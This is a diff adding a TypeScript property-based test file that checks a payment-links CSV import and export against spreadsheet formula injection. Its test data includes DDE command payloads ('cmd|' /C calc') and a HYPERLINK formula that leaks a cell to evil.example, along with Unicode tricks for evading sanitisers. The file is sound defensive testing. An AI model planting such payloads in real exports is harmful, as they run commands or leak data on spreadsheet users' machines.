@@ -1,0 +1,103 @@
+import fc from "fast-check";
+import Papa from "papaparse";
+import { describe, expect, it } from "vitest";
+import { parseText, rowsAsCsv } from "@/components/payment-links/import-file";
+import { disarmed, rearmed } from "@/lib/payment-links/csv-text";
+import { payloads } from "../support/payloads";
+
+const formulas = [
+  "=1+1",
+  "+49 1555",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  " =1",
+  "\u00a0=1",
+  "\u3000=1",
+  "\ufeff=1",
+  "\u200b=1",
+  "\u202e=1",
+  '"=1',
+  "'=1",
+  "''=1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+  " ＝1",
+  "a;=1+1",
+  "a; =1+1;b",
+  "a\t=1+1",
+  "two lines\n=1",
+  "two lines\r\n-1",
+  '=HYPERLINK("https://evil.example?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+];
+
+/** What a spreadsheet does with a cell, whichever separator it expects. */
+const runs = (cell: string): boolean =>
+  cell.split(/[;\t\r\n]/).some((part) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(part));
+
+const harmless = [
+  "Order 1001",
+  "a=b",
+  "'quoted'",
+  "O'Brien",
+  "a, -5",
+  "5 - 3",
+  "",
+  "Käse 🧀",
+  'say "hi"',
+  "x@example.com",
+];
+
+describe("a text as a cell", () => {
+  it.each(formulas)("%j runs nowhere, and comes back", (text) => {
+    expect(runs(text) || text.startsWith("'")).toBe(true);
+    expect(runs(disarmed(text))).toBe(false);
+    expect(rearmed(disarmed(text))).toBe(text);
+  });
+
+  it.each(harmless)("%j is left alone", (text) => {
+    expect(disarmed(text)).toBe(text);
+    expect(rearmed(text)).toBe(text);
+  });
+
+  it("comes back and does not run, whatever it is", () => {
+    const signs = fc.constantFrom(..."='\"+-@;\t\r\n ,a＝＋－＠\u00a0\u202e\ufeff\u0000");
+    const words = fc.oneof(
+      fc.array(signs, { maxLength: 12 }).map((list) => list.join("")),
+      fc.string({ unit: "binary" }),
+    );
+    fc.assert(
+      fc.property(words, (text) => {
+        expect(runs(disarmed(text))).toBe(false);
+        expect(rearmed(disarmed(text))).toBe(text);
+      }),
+      { numRuns: 20_000 },
+    );
+  });
+
+  it("comes back through a file, beside any others", () => {
+    const signs = fc.constantFrom(..."='\"+-@;\t\r\n ,a|＝\u202e\ufeff");
+    const words = fc.oneof(
+      fc.constantFrom(...formulas, ...payloads),
+      fc.array(signs, { minLength: 1, maxLength: 12 }).map((list) => list.join("")),
+    );
+    const columns = ["email", "title", "description", "reference"];
+    fc.assert(
+      fc.property(fc.array(fc.tuple(words, words, words), { minLength: 1, maxLength: 6 }), (lines) => {
+        const rows = lines.map((line) => ["ada@example.com", ...line]);
+        const text = Papa.unparse([columns, ...rows.map((row) => row.map(disarmed))], { newline: "\r\n" });
+        const back = parseText(`\ufeff${text}`);
+        const cells = back.rows.map(({ cells }) => columns.map((name) => cells[name]));
+        expect(cells).toEqual(rows);
+        const again = parseText(rowsAsCsv({ id: "", name: "", ...back }, back.rows));
+        expect(again.rows.map(({ cells }) => columns.map((name) => cells[name]))).toEqual(rows);
+      }),
+      { numRuns: 3_000 },
+    );
+  });
+});
